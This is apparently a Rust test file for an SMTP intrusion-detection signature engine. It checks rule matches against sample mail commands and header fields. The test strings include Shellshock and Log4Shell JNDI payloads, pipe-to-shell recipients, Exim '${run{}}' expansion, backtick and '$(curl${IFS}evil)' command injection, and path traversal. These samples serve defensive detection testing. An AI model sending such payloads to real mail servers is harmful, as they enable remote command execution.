use artifact::settings::{Place, SIGNATURES};

use super::super::{octets::Octets, path, word};
use super::*;

fn found(id: u16, seen: &Seen<'_>) -> bool {
    let index = SIGNATURES.iter().position(|row| row.id == id).unwrap();
    let found = find(seen, 1 << index);
    assert!(found.is_none() || found == Some(id));
    found.is_some()
}

fn in_command(id: u16, text: &str, recipient_count: u32) -> bool {
    let line = text.as_bytes();
    let verb_at = word(line);
    let path = &line[path::find(line, verb_at.end).path];
    let word = &line[verb_at];
    found(
        id,
        &Seen::Command {
            verb: Verb::new(word),
            word,
            line,
            len: line.len() + 2,
            path,
            octets: Octets::of(line),
            recipient_count,
            spam_recipients: 250,
        },
    )
}

#[test]
fn both_tables_have_the_same_rows() {
    assert_eq!(ROWS.map(|row| row.id), SIGNATURES.map(|row| row.id));
}

#[test]
fn commands() {
    let long = format!("MAIL FROM:<a@b> SOLICIT={}", "a".repeat(975));
    let brackets = format!("RCPT TO:{} a@b", "<>".repeat(10));
    let comment = format!("MAIL FROM:<({})a@b>", "c".repeat(128));
    let cases: &[(u16, &str, bool)] = &[
        (3100, "MAIL FROM:<x|/bin/sh>", true),
        (3100, "RCPT TO:<root@localhost| /bin/sed>", true),
        (3100, "RCPT TO:<a|b@example.org>", false),
        (3101, "RCPT TO:<|/bin/sh -c id>", true),
        (3101, "RCPT TO:<\"|/bin/sh\"@b>", true),
        (3101, "RCPT TO:< \"\\| sh\"@b>", true),
        (3101, "RCPT TO:<@route:|sh>", true),
        (3101, "RCPT TO: |sh", true),
        (3101, "RCPT TO:<a|b@example.org>", false),
        (3101, "MAIL FROM:<|sh>", false),
        (3102, "MAIL FROM:<|/bin/sh>", true),
        (3102, "MAIL FROM:\"|/bin/tail|/bin/sh\"", true),
        (3102, "SOML FROM:<|sh>", true),
        (3102, "MAIL FROM:<a|b@example.org>", false),
        (3102, "MAIL FROM:<\"a|b\"@example.org>", false),
        (3102, "RCPT TO:<|sh>", false),
        (3103, "vrfy root", true),
        (3103, "EXPN list", true),
        (3103, "VRFYX", false),
        (3104, "WIZ", true),
        (3104, "debug x", true),
        (3104, "DEBUGGER", false),
        (3104, "NOOP debug", false),
        (3105, "RCPT TO:<decode>", true),
        (3105, "RCPT TO:<UUDecode@b>", true),
        (3105, "RCPT TO:<\"decode\"@b>", true),
        (3105, "RCPT TO:<decoder@b>", false),
        (3105, "MAIL FROM:<decode@b>", false),
        (3109, &long, true),
        (3109, &long[..998], false),
        (7001, "MAIL FROM:<;sleep 66;>", true),
        (7001, "MAIL FROM:<;id@>", true),
        (7001, "MAIL FROM:<\"a;b\"@example.org>", false),
        (7001, "MAIL FROM:<>", false),
        (7001, "MAIL FROM:<root>", false),
        (7002, "RCPT TO:<${run{\\x2Fbin\\x2Fsh}}@localhost>", true),
        (7002, "RCPT TO:<${a}@b>", false),
        (7002, "RCPT TO:<$a@b>", false),
        (7003, "RCPT TO:<\"a$(curl${IFS}evil)\"@b>", true),
        (7003, "RCPT TO:<\"a`id`\"@b>", true),
        (7003, "RCPT TO:<o`neill@b>", false),
        (7004, "MAIL FROM:<() { :; }; id>", true),
        (7004, "HELO () { :;}; id", true),
        (7004, "HELO client", false),
        (7004, "RCPT TO:<\"f() {\"@b>", false),
        (7005, "EHLO ${JNDI:ldap://x}", true),
        (7005, "RCPT TO:<\"${jndi:dns://x}\"@b>", true),
        (7005, "RCPT TO:<jndi@b>", false),
        (7006, "AUTH PLAIN AGEAYg=", true),
        (7006, "AUTH PLAIN AGEAYg==", false),
        (7006, "AUTH PLAIN =", false),
        (7006, "AUTH LOGIN", false),
        (7007, "RCPT TO:<../../../../etc/bash_completion.d@localhost>", true),
        (7007, "RCPT TO:<a/b@c>", false),
        (7007, "MAIL FROM:<../a@b>", false),
        (7005, "EHLO ${${lower:j}ndi:ldap://x}", true),
        (7005, "EHLO ${${::-j}${::-n}di:ldap://x}", true),
        (7005, "RCPT TO:<\"${lower:x}\"@b>", false),
        (7008, &brackets, true),
        (7008, &brackets[..brackets.len() - 10], false),
        (7008, "MAIL FROM:<>", false),
        (7008, "RCPT TO:<(((((((((x)))))))))a@b>", true),
        (7008, "RCPT TO:<((((((((x))))))))a@b>", false),
        (7008, &comment, true),
        (7008, "RCPT TO:<(a comment)a@b>", false),
        (7008, "RCPT TO:<\"((((((((((\"@b>", false),
        (7009, "X-LINK2STATE FIRST CHUNK={aaaa", true),
        (7009, "x-link2state last chunk=1", true),
        (7009, "X-LINK2STATE", false),
        (7009, "NOOP CHUNK=", false),
    ];
    for (id, line, expected) in cases {
        assert_eq!(in_command(*id, line, 1), *expected, "{id} {line}");
    }
    assert!(in_command(3106, "RCPT TO:<a@b>", 251));
    assert!(!in_command(3106, "RCPT TO:<a@b>", 250));
    assert!(!in_command(3106, "MAIL FROM:<a@b>", 251));
    for row in SIGNATURES.iter().filter(|row| row.place == Place::Commands && row.id != 3106) {
        for expected in [true, false] {
            assert!(cases.iter().any(|(id, _, found)| (*id, *found) == (row.id, expected)), "{}", row.id);
        }
    }
}

#[test]
fn fields() {
    let long = |name: &str, len: usize| name.to_owned() + &"a".repeat(len - name.len());
    let own: &[(u16, &str, bool)] = &[
        (3105, "To: decode@victim", true),
        (3105, "Cc: uudecode@victim", true),
        (3105, "To: decoder@victim", false),
        (3105, "Subject: to decode@home", false),
        (3107, "Reply-To: a~.`/usr/lib/sendmail${IFS}x`@b", true),
        (3107, "reply-to: x$(id)@b", true),
        (3107, "Reply-To: \"A `quote\" <a@b>", true),
        (3107, "Reply-To: A Person <a@b>", false),
        (3107, "Subject: `ls`", false),
        (3108, &long("Content-Type: ", 513), true),
        (3108, &long("Content-Type: ", 512), false),
        (3108, &long("Subject: ", 513), false),
        (3110, "Content-Disposition: attachment; filename=\"a.exe\"", true),
        (3110, "Content-Type: application/x; name=a.SCR", true),
        (3110, "Content-Type: application/x; name=a.exec", false),
        (3110, "Subject: name=a.exe", false),
        (7004, "Subject: () { :;}; id", true),
        (7004, "Subject: what f() { does", false),
        (7005, "X-Any: a ${jndi:ldap://x} b", true),
        (7005, "X-Any: jndi", false),
        (7005, "Subject: ${${upper:j}ndi:rmi://x}", true),
        (7005, "Subject: set ${env:HOME} first", false),
        (7008, &format!("From: {}(x)", "<>".repeat(8)), true),
        (7008, &format!("Cc: {}", "<>".repeat(7)), false),
        (7008, &format!("Subject: {}", "<>".repeat(80)), false),
        (7008, &format!("To: {}a@b{}", "(".repeat(9), ")".repeat(9)), true),
        (7008, &format!("To: {}", "a@b (A Person), ".repeat(100)), false),
    ];
    for (id, field, expected) in own {
        assert_eq!(found(*id, &Seen::Field(Field::new(field.as_bytes()))), *expected, "{id} {field}");
        let name = field.split(':').next().unwrap().as_bytes();
        let cut = Field::cut(field.as_bytes(), name, !field.contains('$'));
        assert_eq!(found(*id, &Seen::Field(cut)), *expected, "{id} {field}");
        assert!(!expected || cut.possible(u32::MAX) != 0, "{id} {field}");
        let in_parts = matches!(*id, 3108 | 3110) && *expected;
        assert_eq!(found(*id, &Seen::PartField(Field::new(field.as_bytes()))), in_parts, "{id} {field}");
    }
    for row in SIGNATURES.iter().filter(|row| row.place != Place::Commands) {
        for expected in [true, false] {
            assert!(own.iter().any(|(id, _, found)| (*id, *found) == (row.id, expected)), "{}", row.id);
        }
    }
}

#[test]
fn only_what_is_on_is_looked_for() {
    let all = Seen::Field(Field::new(b"Reply-To: `id` ${jndi:x}"));
    assert_eq!(find(&all, u32::MAX), Some(3107));
    assert_eq!(find(&all, !(1 << 7)), Some(7005));
    assert_eq!(find(&all, 0), None);
}

#[test]
fn the_mark_of_prescan_is_no_octet_of_an_address() {
    let overflows = |field: &[u8]| found(7008, &Seen::Field(Field::new(field)));
    assert!(overflows(b"From: a\\\xff\\\xff@b"));
    assert!(overflows(b"To: \xff\\"));
    assert!(!overflows(b"From: Lo\xffs <a@b>"));
    assert!(!overflows(b"X-Other: \\\xff"));
}
